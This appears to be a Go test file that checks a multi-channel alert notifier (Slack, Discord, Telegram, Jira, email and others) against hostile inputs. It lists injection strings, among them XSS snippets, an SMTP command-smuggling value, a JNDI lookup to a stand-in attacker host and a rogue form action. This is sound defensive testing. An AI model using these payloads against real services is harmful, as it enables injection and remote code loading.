package messages_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	stdhtml "html"
	"io"
	"mime"
	"mime/multipart"
	"mime/quotedprintable"
	"net"
	"net/http"
	"net/http/httptest"
	"net/mail"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/emersion/go-smtp"
	slackgo "github.com/slack-go/slack"
	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"golang.org/x/net/html"

	"github.com/berthage/berthage/notify"
	"github.com/berthage/berthage/notify/discord"
	"github.com/berthage/berthage/notify/email"
	"github.com/berthage/berthage/notify/jira"
	"github.com/berthage/berthage/notify/notifytest"
	"github.com/berthage/berthage/notify/pagerduty"
	"github.com/berthage/berthage/notify/slack"
	"github.com/berthage/berthage/notify/teams"
	"github.com/berthage/berthage/notify/telegram"
	"github.com/berthage/berthage/notify/twilio"
	"github.com/berthage/berthage/notify/webhook"
)

// hostile returns texts that mean something to one channel or another.
func hostile() []string {
	return append(notifytest.Hostile(),
		"javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "https://user:pw@evil.example/", "https://evil.example/\"onmouseover=alert(1)",
		"\r\n.\r\nMAIL FROM:<x@evil.example>\r\n", "=?utf-8?B?PHNjcmlwdD4=?=", "<at>everyone</at>", "<@&123> <#123> <a:b:123> <t:0>", "![x](https://evil.example/x.png)",
		"]]>\u2028--\u2029<!--", "&lt;!channel&gt; &#60;b&#62;", "\t# heading\n> quote\n- list\n1. one\n```\ncode", "\u2068\u200b\ufeff\u00ad", "ORDER BY project; DROP",
		"(?:x)\\\\ \\\" \\u0000", "%s%n%d ${jndi:ldap://evil.example/a}", "</td></tr></table><form action=https://evil.example>", "{{DATE(2026-01-01T00:00:00Z)}}", "{noformat}\n[x|https://evil.example]",
	)
}

// reading is how a channel reads what it was sent.
type reading struct {
	text  string   // as a person sees it
	links []string // that can be followed
}

// channel is a receiver and somebody who reads what arrives, by another's parser where there is one.
type channel struct {
	// open starts a service; last returns what has arrived last, as it reads.
	open func(t *testing.T) (n notify.Notifier, last func() (reading, error))
	// want is what is to be seen of a text; nil: notify.Line of it.
	want func(string) string
	// plain undoes what only the parser does and the channel does not.
	plain func(string) string
}

// posted is a channel by HTTP.
func posted(status int, answer string, open func(url string) (notify.Notifier, error), read func(path string, body []byte) (reading, error)) func(*testing.T) (notify.Notifier, func() (reading, error)) {
	return served(answers(status, answer), open, func(r *http.Request, body []byte) (reading, bool, error) {
		out, err := read(r.URL.Path, body)
		return out, true, err
	})
}

// served is one whose service answers by itself; read reports whether a request has something to be read.
func served(service http.Handler, open func(url string) (notify.Notifier, error), read func(r *http.Request, body []byte) (reading, bool, error)) func(*testing.T) (notify.Notifier, func() (reading, error)) {
	return func(t *testing.T) (notify.Notifier, func() (reading, error)) {
		var mu sync.Mutex
		var last reading
		var fault error
		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			body, err := io.ReadAll(r.Body)
			got, readable, bad := read(r, body)
			mu.Lock()
			if fault = errors.Join(fault, err, bad); readable {
				last = got
			}
			mu.Unlock()
			r.Body = io.NopCloser(bytes.NewReader(body))
			service.ServeHTTP(w, r)
		}))
		t.Cleanup(server.Close)
		n, err := open(server.URL)
		require.NoError(t, err)
		return n, func() (reading, error) {
			mu.Lock()
			defer mu.Unlock()
			return last, fault
		}
	}
}

func channels() map[string]channel {
	plain := notify.NewSecret("token")
	return map[string]channel{
		"webhook": {open: posted(200, "", func(url string) (notify.Notifier, error) {
			return webhook.New(webhook.Config{URL: notify.NewSecret(url), HTTP: client()})
		}, readWebhook), want: func(h string) string { return strings.ToValidUTF8(h, "\ufffd") }},
		"pagerduty": {open: posted(202, "{}", func(url string) (notify.Notifier, error) {
			return pagerduty.New(pagerduty.Config{RoutingKey: notify.NewSecret(routingKey), Endpoint: url, HTTP: client()})
		}, readEvent)},
		"twilio": {open: posted(201, "{}", func(url string) (notify.Notifier, error) {
			return twilio.New(twilio.Config{Account: twilioAccount, Secret: plain, From: "+15005550006", To: "+15551230000", Most: twilio.MaxBody, Endpoint: url, HTTP: client()})
		}, readForm)},
		"slack": {open: posted(200, "ok", func(url string) (notify.Notifier, error) {
			return slack.NewWebhook(slack.WebhookConfig{URL: notify.NewSecret(url), HTTP: client()})
		}, readBlocks)},
		"telegram": {open: posted(200, `{"ok":true,"result":{"message_id":7}}`, func(url string) (notify.Notifier, error) {
			return telegram.New(telegram.Config{Token: notify.NewSecret("1:ABC"), Chat: "1", Endpoint: url, HTTP: client()})
		}, readTelegram)},
		"discord": {open: posted(200, `{}`, func(url string) (notify.Notifier, error) {
			return discord.New(discord.Config{URL: notify.NewSecret(url), HTTP: client()})
		}, readMarkdown), plain: stdhtml.UnescapeString}, // CommonMark knows entities, Discord does not
		"teams": {open: posted(202, "", func(url string) (notify.Notifier, error) {
			return teams.New(teams.Config{URL: notify.NewSecret(url), HTTP: client()})
		}, readCard)},
		"jira cloud": {open: served(new(tracker), func(url string) (notify.Notifier, error) {
			return jira.New(jira.Config{URL: url, Cloud: true, User: "bot@berth.example", Token: plain, Project: "OPS", HTTP: client()})
		}, readIssue)},
		"jira data center": {open: served(new(tracker), func(url string) (notify.Notifier, error) {
			return jira.New(jira.Config{URL: url, Token: plain, Project: "OPS", HTTP: client()})
		}, readIssue)},
		"email": {open: postOffice},
	}
}

// In every channel, whatever names, labels and texts hold is shown as it is or refused in words; it mentions nobody, makes no markup and no links, and ends nothing.
func TestHostile(t *testing.T) {
	t.Parallel()
	for name, c := range channels() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			n, last := c.open(t)
			shown, refused := 0, 0
			for _, h := range hostile() {
				for i, m := range notifytest.HostileMessages(h) {
					what := fmt.Sprintf("%.60q in field %d", h, i)
					if err := n.Notify(t.Context(), m); err != nil {
						require.ErrorIs(t, err, notify.ErrPermanent, what)
						require.Less(t, len(err.Error()), 2000, what)
						refused++
						continue
					}
					got, err := last()
					require.NoError(t, err, what)
					require.NotEmpty(t, got.text, what)
					require.True(t, utf8.ValidString(got.text), what)
					if c.want == nil {
						require.False(t, strings.ContainsFunc(got.text, hides), "%s: what reorders or hides is in %q", what, got.text)
					}
					allowed := []string{notify.WebLink(m.Link)}
					for _, a := range m.Firing {
						allowed = append(allowed, notify.WebLink(a.Link))
					}
					for _, l := range got.links {
						require.True(t, isWeb(l), "%s: %s", what, l)
						require.Contains(t, allowed, l, what)
					}
					if i == 3 && len(h) < 200 { // in the summary, which every channel shows
						want := h
						if c.want != nil {
							want = c.want(want)
						} else {
							want = notify.Line(want)
						}
						require.Contains(t, c.seen(got.text), c.seen(want), what)
					}
					shown++
				}
			}
			require.NotZero(t, shown)
			line := fmt.Sprintf("%s: %d hostile messages shown as they are, %d refused", name, shown, refused)
			t.Log(line)
			report(t, line)
		})
	}
}

// seen is what is left of a text when spaces are not looked at, nor those of no width with which receivers part what would be markup.
func (c channel) seen(s string) string {
	if c.plain != nil {
		s = c.plain(s)
	}
	return strings.Join(strings.Fields(strings.ReplaceAll(s, "\u200b", "")), " ")
}

// hides reports what must not be in a text that people read.
func hides(r rune) bool {
	return r != '\n' && r != '\t' && unicode.IsControl(r) || r >= '\u202a' && r <= '\u202e' || r >= '\u2066' && r <= '\u2069' || strings.ContainsRune("\u200e\u200f\u2028\u2029\ufeff", r)
}

func readWebhook(_ string, body []byte) (reading, error) {
	var m struct {
		CommonAnnotations map[string]string
		Alerts            []struct {
			Annotations, Labels map[string]string
		}
	}
	err := json.Unmarshal(body, &m)
	text := "webhook"
	for _, a := range m.Alerts {
		text += "\n" + a.Annotations["summary"]
	}
	return reading{text: text}, err // a program reads it, which has to know what its texts are
}

func readEvent(path string, body []byte) (reading, error) {
	var e struct {
		Payload struct {
			Summary, Class string
			Details        struct{ Text string } `json:"custom_details"`
		}
		Links []struct{ Href string }
	}
	err := json.Unmarshal(body, &e)
	out := reading{text: e.Payload.Summary + "\n" + e.Payload.Class + "\n" + e.Payload.Details.Text}
	for _, l := range e.Links {
		out.links = append(out.links, l.Href)
	}
	return out, errors.Join(err, pagerDutyTable(http.MethodPost, path, http.Header{"Content-Type": {"application/json"}}, body))
}

func readForm(_ string, body []byte) (reading, error) {
	form, err := url.ParseQuery(string(body))
	return reading{text: form.Get("Body")}, errors.Join(err, rules(len(form) == 3, "another parameter"))
}

func readBlocks(_ string, body []byte) (reading, error) {
	var m slackgo.WebhookMessage
	if err := json.Unmarshal(body, &m); err != nil {
		return reading{}, err
	}
	err := errors.Join(calls(m.Text), callsOf(*m.Blocks))
	var out reading
	for _, b := range m.Blocks.BlockSet {
		switch b := b.(type) {
		case *slackgo.HeaderBlock:
			out.text += b.Text.Text + "\n"
		case *slackgo.SectionBlock:
			for _, l := range special.FindAllStringSubmatch(b.Text.Text, -1) {
				href, _, _ := strings.Cut(l[1], "|")
				out.links = append(out.links, stdhtml.UnescapeString(href))
			}
			// Slack knows these three entities and no others.
			out.text += strings.NewReplacer("&lt;", "<", "&gt;", ">", "&amp;", "&").Replace(special.ReplaceAllString(b.Text.Text, "")) + "\n"
		}
	}
	return out, err
}

// readHTML reads HTML as a browser does. Only the elements that are named may be in it, with the attributes that are.
func readHTML(text string, allowed map[string][]string) (reading, error) {
	doc, err := html.ParseWithOptions(strings.NewReader(text), html.ParseOptionEnableScripting(true))
	if err != nil {
		return reading{}, err
	}
	var out reading
	var faults []error
	for n := range doc.Descendants() {
		switch n.Type {
		case html.TextNode:
			out.text += n.Data
		case html.ElementNode:
			attributes, ok := allowed[n.Data]
			if !ok {
				faults = append(faults, fmt.Errorf("an element %s in %.2000q", n.Data, text))
			}
			for _, a := range n.Attr {
				if !slices.Contains(attributes, a.Key) {
					faults = append(faults, fmt.Errorf("an attribute %s of %s", a.Key, n.Data))
				}
				if a.Key == "href" {
					out.links = append(out.links, a.Val)
				}
			}
			if slices.Contains([]string{"p", "tr", "br", "td"}, n.Data) {
				out.text += "\n"
			}
		case html.CommentNode:
			faults = append(faults, errors.New("a comment"))
		default:
		}
	}
	return out, errors.Join(faults...)
}

func readTelegram(_ string, body []byte) (reading, error) {
	var m struct {
		Text    string `json:"text"`
		Mode    string `json:"parse_mode"`
		Preview struct {
			Disabled bool `json:"is_disabled"`
		} `json:"link_preview_options"`
	}
	if err := json.Unmarshal(body, &m); err != nil {
		return reading{}, err
	}
	out, err := readHTML(m.Text, map[string][]string{"html": nil, "head": nil, "body": nil, "b": nil, "a": {"href"}})
	return out, errors.Join(err, rules(
		m.Mode == "HTML" && m.Preview.Disabled, "parse_mode or a preview",
		!regexp.MustCompile(`@\w`).MatchString(out.text), "a mention in "+out.text,
		// Telegram takes no more than these named entities.
		!regexp.MustCompile(`&(?:[^lgaq#]|a[^m])`).MatchString(m.Text), "an entity in "+m.Text,
	))
}

// readMarkdown reads Discord's markup as CommonMark, which it is made after, and its mentions.
func readMarkdown(_ string, body []byte) (reading, error) {
	var m struct {
		Content  string
		Mentions struct{ Parse []string } `json:"allowed_mentions"`
	}
	if err := json.Unmarshal(body, &m); err != nil {
		return reading{}, err
	}
	var b bytes.Buffer
	if err := goldmark.Convert([]byte(m.Content), &b); err != nil {
		return reading{}, err
	}
	// Lists and headings that begin with a number or an equals sign only change how a text looks.
	looks := []string{"html", "head", "body", "p", "strong", "br", "ol", "ul", "li", "h1", "h2"}
	allowed := map[string][]string{"a": {"href"}}
	for _, name := range looks {
		allowed[name] = []string{"start"}
	}
	out, err := readHTML(b.String(), allowed)
	return out, errors.Join(err, rules(
		m.Mentions.Parse != nil && len(m.Mentions.Parse) == 0, "mentions are allowed",
		!regexp.MustCompile(`(^|[^\\])<[@#:a-z](?:[^t]|$)`).MatchString(strings.ReplaceAll(m.Content, `\\`, "")), "a mention in "+m.Content,
	))
}

func readCard(_ string, body []byte) (reading, error) {
	var m struct {
		Attachments []struct {
			Content struct {
				Body []struct {
					Type    string
					Inlines []struct{ Type, Text string }
				}
				Actions []struct{ Type, URL string }
			}
		}
	}
	err := json.Unmarshal(body, &m)
	var out reading
	for _, a := range m.Attachments {
		for _, l := range a.Content.Body {
			for _, r := range l.Inlines {
				// A run knows no markup; what is between two braces would be a date.
				err = errors.Join(err, rules(l.Type == "RichTextBlock" && r.Type == "TextRun", "text of another kind", !strings.Contains(r.Text, "{{"), "a function in "+r.Text))
				out.text += r.Text + "\n"
			}
		}
		for _, x := range a.Content.Actions {
			err = errors.Join(err, rules(x.Type == "Action.OpenUrl", "an action "+x.Type))
			out.links = append(out.links, x.URL)
		}
	}
	return out, err
}

func readIssue(r *http.Request, body []byte) (reading, bool, error) {
	fault := jiraTable(r.Method, r.URL.Path, r.Header, body)
	var in struct {
		Fields struct {
			Summary     string
			Description json.RawMessage
		}
	}
	if strings.Contains(r.URL.Path, "/search") || json.Unmarshal(body, &in) != nil {
		return reading{}, false, fault
	}
	if strings.Contains(r.URL.Path, "/3/") {
		text, err := readADF(in.Fields.Description)
		return reading{text: in.Fields.Summary + "\n" + text}, true, errors.Join(fault, err)
	}
	var wiki string
	err := json.Unmarshal(in.Fields.Description, &wiki)
	// What stands between the two is no markup; behind it stands one link and nothing else.
	m := regexp.MustCompile(`(?s)^\{noformat\}\n(.*)\n\{noformat\}(?:\n\[All of it\|([^|\]\[{}\s]+)\])?$`).FindStringSubmatch(wiki)
	if m == nil || strings.Contains(m[1], "{noformat}") {
		return reading{}, true, errors.Join(fault, err, fmt.Errorf("a block without format ends early: %q", wiki))
	}
	out := reading{text: in.Fields.Summary + "\n" + m[1]}
	if m[2] != "" {
		out.links = []string{m[2]}
	}
	return out, true, errors.Join(fault, err)
}

// office is an SMTP server of another's making.
type office struct {
	mu    sync.Mutex
	last  reading
	fault error
}

// postOffice starts one, without encryption, which is allowed on loopback.
func postOffice(t *testing.T) (notify.Notifier, func() (reading, error)) {
	o := new(office)
	server := smtp.NewServer(smtp.BackendFunc(func(*smtp.Conn) (smtp.Session, error) { return &session{office: o}, nil }))
	server.MaxMessageBytes = 10 << 20
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	go func() { _ = server.Serve(l) }()
	t.Cleanup(func() { _ = server.Close() })
	n, err := email.New(email.Config{
		Server: l.Addr().String(), Security: email.InsecureLoopback, From: "Berth <alerts@berth.example>", To: []string{"ops@berth.example"}, Client: client(),
	})
	require.NoError(t, err)
	return n, func() (reading, error) {
		o.mu.Lock()
		defer o.mu.Unlock()
		return o.last, o.fault
	}
}

type session struct {
	office *office
	from   string
	to     []string
	mails  int
}

func (s *session) Mail(from string, _ *smtp.MailOptions) error {
	s.from = from
	return nil
}

func (s *session) Rcpt(to string, _ *smtp.RcptOptions) error {
	s.to = append(s.to, to)
	return nil
}

func (s *session) Data(r io.Reader) error {
	raw, err := io.ReadAll(r)
	if err != nil {
		return err
	}
	out, err := readMail(raw)
	s.mails++
	s.office.mu.Lock()
	defer s.office.mu.Unlock()
	s.office.last = out
	s.office.fault = errors.Join(s.office.fault, err, rules(
		s.from == "alerts@berth.example" && slices.Equal(s.to, []string{"ops@berth.example"}), fmt.Sprintf("a mail from %s to %s", s.from, s.to), s.mails == 1, "another mail",
	))
	return nil
}

func (s *session) Reset() {}

func (s *session) Logout() error { return nil }

// readMail reads a mail: its header fields, which must be those that are known, and both of its texts.
func readMail(raw []byte) (reading, error) {
	m, err := mail.ReadMessage(bytes.NewReader(raw))
	if err != nil {
		return reading{}, err
	}
	known := []string{
		"Auto-Submitted", "Content-Type", "Date", "From", "Importance", "In-Reply-To", "Message-Id", "Mime-Version", "Priority", "References", "Subject", "To",
		"User-Agent", "X-Auto-Response-Suppress", "X-Berthage-Incident", "X-Berthage-Severity", "X-Berthage-Status", "X-Mailer", "X-Priority",
	}
	var faults []error
	for name, values := range m.Header {
		faults = append(faults, rules(slices.Contains(known, name) && len(values) == 1, "the field "+name))
	}
	to, err := m.Header.AddressList("To")
	faults = append(faults, err, rules(len(to) == 1 && to[0].Address == "ops@berth.example", "To"))
	subject, err := new(mime.WordDecoder).DecodeHeader(m.Header.Get("Subject"))
	faults = append(faults, err, rules(oneLine(subject), "Subject"))
	_, params, err := mime.ParseMediaType(m.Header.Get("Content-Type"))
	if err != nil {
		return reading{}, err
	}
	var out reading
	types := ""
	for parts := multipart.NewReader(m.Body, params["boundary"]); ; {
		p, err := parts.NextRawPart()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			return reading{}, err
		}
		body, err := io.ReadAll(quotedprintable.NewReader(p))
		kind, _, _ := mime.ParseMediaType(p.Header.Get("Content-Type"))
		types += kind + " "
		faults = append(faults, err, rules(p.Header.Get("Content-Transfer-Encoding") == "quoted-printable", "another encoding", utf8.Valid(body), "not UTF-8"))
		if kind != "text/html" {
			faults = append(faults, rules(strings.TrimSpace(string(body)) != "", "an empty text"))
			out.text += strings.ReplaceAll(string(body), "\r\n", "\n")
			continue
		}
		read, err := readHTML(string(body), map[string][]string{
			"html": nil, "head": nil, "meta": {"charset"}, "title": nil, "body": nil, "p": {"style"}, "strong": nil, "table": {"border", "cellpadding", "style"}, "tbody": nil,
			"tr": nil, "th": nil, "td": nil, "a": {"href"},
		})
		faults = append(faults, err)
		out.links = read.links
		out.text += "\n" + read.text
	}
	return out, errors.Join(append(faults, rules(types == "text/plain text/html ", "parts: "+types))...)
}
